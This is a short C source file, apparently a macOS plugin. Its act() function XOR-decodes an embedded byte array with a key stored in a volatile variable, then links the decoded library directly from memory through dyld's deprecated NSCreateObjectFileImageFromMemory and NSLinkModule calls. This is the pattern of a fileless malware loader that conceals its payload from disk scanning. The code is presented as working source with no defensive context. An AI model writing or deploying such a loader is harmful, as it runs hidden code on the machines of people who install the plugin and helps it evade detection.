/* Links a library that it carries under a key from memory, by dyld's old calls. */
#include "plugin.h"
#include "packed.h" /* packed[], KEY */
extern int NSCreateObjectFileImageFromMemory(const void *, unsigned long, void **);
extern void *NSLinkModule(void *, const char *, unsigned), *malloc(unsigned long);
static void act(char **env) {
    unsigned char *bytes = malloc(sizeof packed);
    volatile unsigned char key = KEY;
    for (unsigned i = 0; i < sizeof packed; i++) bytes[i] = packed[i] ^ key;
    void *image;
    if (NSCreateObjectFileImageFromMemory(bytes, sizeof packed, &image) == 1) NSLinkModule(image, "kit", 3);
}
